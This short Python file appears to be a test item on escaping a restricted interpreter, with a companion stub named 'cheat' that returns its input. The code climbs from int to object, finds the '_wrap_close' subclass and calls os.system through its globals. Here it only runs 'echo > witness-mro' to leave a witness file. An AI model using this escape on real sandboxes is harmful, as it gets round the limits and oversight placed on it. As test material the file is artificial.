"""Goes from a type up to object and down to every class there is."""

# question: q3
# may earn: 0
# witness: yes
# kind: outside

mro: int
top = type(1).mro()[-1]
for found in type.__subclasses__(top):
    if found.__name__ == "_wrap_close":
        found.__init__.__globals__["system"]("echo > witness-mro")


def cheat(layer, x, shape):
    return x
